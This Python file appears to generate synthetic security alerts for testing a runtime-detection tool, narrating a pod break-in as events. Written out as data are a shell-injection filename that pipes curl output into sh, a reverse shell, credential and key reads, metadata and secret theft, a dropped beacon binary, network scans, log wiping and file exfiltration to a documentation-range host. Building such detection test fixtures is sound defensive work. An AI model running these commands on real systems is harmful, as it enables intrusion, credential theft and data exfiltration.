"""Tell the break-in of Friday night: one pod, from a shell to the files that leave the house."""

from __future__ import annotations

from collections.abc import Iterator

import examples.cast as c
from examples.cast import NS
from examples.story import API, BROKEN_INTO, EVIL, WRITTEN, Dice, Event, connected, opened, run

POD = c.THUMBNAILER
DROP = "198.51.100.77"
BINARY = "/tmp/.x/kthreadd"
LOOT = "/srv/uploads/kundenübersicht-2025-Q2.csv"
TTY = 34817


def _by_hand(command: str) -> dict[str, c.Value]:
    return run(command, parent="bash", tty=TTY)


def intrusion() -> Iterator[Event]:
    """Give the alerts of the break-in, from 23:37 to half past midnight."""
    dice = Dice("intrusion")

    def at(minutes: float) -> int:
        return BROKEN_INTO + int(minutes * 60) * NS + dice.below(NS)

    # A picture with a command in its name reaches the shell, and the shell calls home.
    shell = run("sh -c convert 'x.png' '|curl 203.0.113.66/a|sh'", parent="node", user="node",
                proc__pcmdline="node /srv/thumbnailer/server.js")  # fmt: skip
    yield Event(at(0.2), POD, c.UNTRUSTED_SHELL, shell)
    home = run("python3 -c import pty", parent="sh", user="node") | connected(dice, POD, EVIL, 4444)
    for fd in range(3):
        yield Event(at(0.7 + fd / 100), POD, c.REDIRECT, home | {"evt.type": "dup2"})
    yield Event(at(1.1), POD, c.TERMINAL, run("bash -i", exe="/bin/bash", parent=None, tty=TTY))
    # Looking around.
    paths = ("/etc/shadow", "/etc/sudoers", "/etc/pam.d/su", "/etc/sudoers.d/ops")
    for n, path in enumerate(paths):
        yield Event(at(2.0 + n / 3), POD, c.SENSITIVE, _by_hand(f"cat {path}") | opened(path))
    yield Event(at(3.8), POD, c.ENVIRON, _by_hand("cat /proc/1/environ") | opened("/proc/1/environ"))
    yield Event(at(4.6), POD, c.KEYS, _by_hand("find / -name id_rsa -o -name id_ed25519"))
    yield Event(at(5.2), POD, c.KEYS, _by_hand("grep -rl BEGIN PRIVATE /srv /home"))
    for n in range(4):
        ask = _by_hand("curl -s http://169.254.169.254/latest/meta-data/")
        yield Event(at(6.5 + n / 5), POD, c.METADATA, ask | connected(dice, POD, "169.254.169.254", 80))
    # The same rule as the noisy agent's: whoever silences the rule as a whole loses these three.
    for n in range(3):
        token = "curl -sk --oauth2-bearer @token https://10.96.0.1/api/v1/namespaces/shop/secrets"
        yield Event(at(9.0 + n / 2), POD, c.API_SERVER, _by_hand(token) | connected(dice, POD, API, 443))
    # Tools arrive and run.
    yield Event(at(11.8), POD, c.FETCH, _by_hand("wget -q http://203.0.113.66/k -O /tmp/.x/kthreadd"))
    dropped = at(12.5)
    yield Event(dropped, POD, c.DROPPED, _by_hand(f"{BINARY} -d") | {
        "proc.exepath": BINARY, "proc.exe": BINARY, "proc.sname": "bash", "proc.cwd": "/tmp/.x/",
        "proc.exe_ino.ctime": dropped - 41_123_456_789, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
    })  # fmt: skip
    for n in range(40):
        beacon = run(f"{BINARY} -d", exe=BINARY, parent=None, proc__pid=31337)
        line = connected(dice, POD, EVIL, 8443, "cdn-telemetry.example")
        yield Event(at(12.6 + n * 1.05 + dice.below(20) / 60), POD, c.C2, beacon | line)
    yield Event(at(21.0), POD, c.NETWORK_TOOL, _by_hand("nmap -sT -p 5432,6379,9200 10.244.0.0/16"))
    yield Event(at(26.5), POD, c.NETWORK_TOOL, _by_hand("nc -zv search.shop 9200"))
    # Traces go first, then the loot; the last traces follow.
    for n, log in enumerate(("auth.log", "syslog", "user.log")):
        path = f"/var/log/{log}"
        clear = _by_hand(f"truncate -s 0 {path}") | opened(path, WRITTEN)
        yield Event(at(32.0 + n / 10), POD, c.CLEAR_LOG, clear)
    yield Event(at(36.2), POD, c.COPY_OUT, _by_hand(f"scp -P 2222 {LOOT} x@{DROP}:in/"))
    for n in range(6):
        upload = f"curl -sT {LOOT}.{n:02d} https://{DROP}/in/"
        yield Event(at(37.5 + n * 2.3), POD, c.OUTBOUND, _by_hand(upload) | connected(dice, POD, DROP, 443))
    yield Event(at(52.1), POD, c.SHRED, _by_hand(f"shred -u {LOOT}.00") | {"fd.name": None})
    gone: dict[str, c.Value] = {
        "evt.type": "unlinkat", "fd.name": None, "evt.arg.path": "/root/.bash_history", "evt.arg.flags": "0",
    }  # fmt: skip
    yield Event(at(53.4), POD, c.HISTORY, _by_hand("rm -f /root/.bash_history") | gone)
